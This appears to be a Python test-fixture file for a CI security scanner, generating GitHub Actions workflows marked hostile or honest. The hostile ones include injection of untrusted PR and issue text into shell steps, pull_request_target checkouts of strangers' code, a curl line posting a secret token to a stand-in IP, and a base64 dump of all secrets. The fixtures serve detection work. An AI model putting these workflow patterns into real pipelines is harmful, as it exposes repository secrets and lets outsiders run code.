"""Workflows of GitHub that strangers can steer, or that send secrets out, with their honest like. Commands are `echo` at most."""

from __future__ import annotations

from stannary.testing.forges.configs import file

__all__: list[str] = []


def _workflow(on: str, steps: str) -> str:
    return f"on: {on}\npermissions:\n  issues: write\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n{steps}"


_CHECKOUT = "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n"
_TITLE = "${{ github.event.pull_request.title }}"
_SECRET = "        env:\n          T: ${{ secrets.HF_TOKEN }}\n"

# name, event, steps
_HOSTILE = (
    ("title", "pull_request_target", f'      - run: echo "{_TITLE}"\n'),
    ("comment", "issue_comment", "      - run: |\n          if true; then\n\n            echo '${{ github.event.comment.body }}'\n          fi\n"),
    ("issue", "\n  issues:\n    types: [opened]", "      - name: x\n        run: >-\n          echo ${{ github.event.issue.title }}\n"),
    ("branch", "[push, pull_request_target]", "      - run: git checkout ${{ github.head_ref }}\n"),
    ("script", "pull_request_target", "      - uses: actions/github-script@v7\n        with:\n          script: console.log(`${{ github.event.pull_request.body }}`)\n"),
    ("strangers_files", "pull_request_target", f"{_CHECKOUT}      - run: pip install -e . && pytest\n"),
    ("strangers_files_later", "pull_request_target", f"{_CHECKOUT}      - run: |\n          echo x\n          make test\n"),
    ("secret_in_variable", "push", f'      - run: curl -X POST -d "$T" http://203.0.113.9/\n{_SECRET}'),
    ("secrets_encoded", "push", "      - run: echo '${{ toJSON(secrets) }}' | base64 -w0\n"),
)  # fmt: skip
for _name, _on, _steps in _HOSTILE:
    file(f"text.workflow_{_name}", "ci.yml", _workflow(_on, _steps), "tools' settings")
_HONEST = (
    ("title_in_variable", "pull_request_target", f'      - run: echo "$TITLE"\n        env:\n          TITLE: {_TITLE}\n'),
    ("title_in_condition", "issue_comment", "      - if: contains(github.event.comment.body, '/run')\n        run: echo run\n        with:\n          x: ${{ github.event.comment.body }}\n"),
    ("branch_of_project", "pull_request", "      - run: echo ${{ github.head_ref }}\n"),
    ("checkout_of_project", "pull_request", f"{_CHECKOUT}      - run: pip install -e . && pytest\n"),
    ("labels", "pull_request_target", "      - uses: actions/labeler@v5\n        with:\n          repo-token: ${{ secrets.GITHUB_TOKEN }}\n"),
    ("secret_to_service", "push", f'      - run: curl -d "$T" https://api.example.org/hook\n{_SECRET}'),
)  # fmt: skip
for _name, _on, _steps in _HONEST:
    file(f"text.workflow_{_name}", "ci.yml", _workflow(_on, _steps), "tools' settings", malicious=False)
